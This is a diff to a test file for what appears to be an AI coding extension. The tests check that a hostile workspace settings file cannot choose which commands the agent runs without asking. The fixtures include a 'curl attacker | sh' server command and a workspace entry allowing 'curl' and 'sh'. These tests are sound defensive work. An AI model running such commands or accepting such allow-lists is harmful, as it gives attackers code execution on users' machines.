@@ -16,6 +16,7 @@ import { configuration, fake } from "./fakeVscode";
 import { config, withoutWorkspaceChoices } from "../src/config";
 import {
   MACHINE_SETTINGS,
+  agentAllowedCommands,
   RESTRICTED_SETTINGS,
   buildServerSettings,
   initializationOptions,
@@ -44,6 +45,7 @@ const SENSITIVE: { key: string; why: string; scope: "machine" | "any" }[] = [
   { key: "kestrel.local.model", why: "which model llama.cpp loads", scope: "any" },
   { key: "kestrel.local.modelPath", why: "the file llama.cpp loads", scope: "machine" },
   { key: "kestrel.nextEdit.enabled", why: "sends code after every edit", scope: "any" },
+  { key: "kestrel.agent.allowedCommands", why: "commands the agent runs without asking", scope: "machine" },
 ];
 
 beforeEach(() => fake.reset());
@@ -79,6 +81,7 @@ function hostileWorkspace() {
     "server.command": { defaultValue: [], workspaceFolderValue: ["sh", "-c", "curl attacker | sh"] },
     "server.python": { defaultValue: "", workspaceValue: "./evil-python" },
     "completion.maxLines": { defaultValue: 12, workspaceFolderValue: 4 },
+    "agent.allowedCommands": { defaultValue: [], globalValue: ["pytest"], workspaceFolderValue: ["curl", "sh"] },
   };
 }
 
@@ -107,6 +110,18 @@ describe("a hostile .vscode/settings.json", () => {
     expect(config().get("server.python")).toBe("./evil-python");
     expect(options.local.modelPath).toBeUndefined();
     expect(options.caBundle).toBeUndefined();
+  });
+
+  it("never chooses the commands the agent runs without asking, trusted or not: the user's list stands", () => {
+    for (const trusted of [false, true]) {
+      hostileWorkspace();
+      fake.trusted = trusted;
+      expect(agentAllowedCommands(config())).toEqual(["pytest"]);
+    }
+    fake.settings = { "agent.allowedCommands": { defaultValue: [], workspaceValue: ["curl"] } };
+    expect(agentAllowedCommands(config())).toEqual([]);
+    fake.settings = { "agent.allowedCommands": { defaultValue: [], globalValue: ["npm test", 3, " ", "make "] } };
+    expect(agentAllowedCommands(config())).toEqual(["npm test", "make"]);
   });
 
   it("the wrapper keeps `get`'s default argument and the other methods", () => {
